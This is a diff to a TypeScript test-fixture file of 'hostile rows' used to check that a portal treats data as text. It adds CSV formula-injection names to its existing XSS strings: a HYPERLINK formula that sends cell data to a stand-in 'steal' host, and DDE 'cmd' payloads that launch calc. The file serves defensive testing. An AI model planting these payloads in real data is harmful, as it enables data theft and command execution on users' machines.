@@ -6,6 +6,12 @@ import type { ActivityRow, InvoiceRow, MembershipRow, OrganisationRow, UserRow }
 export const XSS_IMG = '<img src=x onerror=alert(1)>';
 export const XSS_BOLD = '<b>bold</b>';
 export const XSS_URL = 'javascript:alert(1)';
+/** Names a spreadsheet would run as formulas if an export did not neutralise them. */
+export const FORMULA_NAMES = {
+  equals: '=HYPERLINK("https://formula.example/steal?d="&A1,"Click for details")',
+  plus: "+61 2 9999 0000+cmd|' /C calc'!A0",
+  at: "@SUM(1+1)*cmd|' /C calc'!A0",
+} as const;
 export const LONG_DESCRIPTION_LENGTH = 10_000;
 
 export interface HostileRows {
@@ -23,8 +29,9 @@ interface HostileCase {
 
 /**
  * Rows that prove the portal renders data as text: markup in names, script URLs, emoji,
- * right-to-left scripts, LIKE metacharacters and a 10,000-character description. They are the
- * newest rows, so they appear on the first page of every list.
+ * right-to-left scripts, LIKE metacharacters, a 10,000-character description, and names that
+ * start with =, + and @ (formula injection into a CSV export). They are the newest rows, so they
+ * appear on the first page of every list.
  */
 const CASES: readonly HostileCase[] = [
   {
@@ -71,6 +78,33 @@ const CASES: readonly HostileCase[] = [
       domain: 'organicproduce.com.au',
     },
     user: { firstName: 'Percy_100%', lastName: "D'Arcy", email: 'percy_darcy@organicproduce.com.au' },
+  },
+  {
+    organisation: {
+      name: FORMULA_NAMES.equals,
+      legalName: '=1+2 Formula Probe Pty Ltd',
+      website: 'https://equalsprobe.com.au',
+      domain: 'equalsprobe.com.au',
+    },
+    user: { firstName: FORMULA_NAMES.equals, lastName: 'Equals', email: 'formula.equals@equalsprobe.com.au' },
+  },
+  {
+    organisation: {
+      name: FORMULA_NAMES.plus,
+      legalName: '+61 Plus Probe Pty Ltd',
+      website: 'https://plusprobe.com.au',
+      domain: 'plusprobe.com.au',
+    },
+    user: { firstName: FORMULA_NAMES.plus, lastName: 'Plus', email: 'formula.plus@plusprobe.com.au' },
+  },
+  {
+    organisation: {
+      name: FORMULA_NAMES.at,
+      legalName: '@Probe Pty Ltd',
+      website: 'https://atprobe.com.au',
+      domain: 'atprobe.com.au',
+    },
+    user: { firstName: FORMULA_NAMES.at, lastName: 'At', email: 'formula.at@atprobe.com.au' },
   },
 ];
 
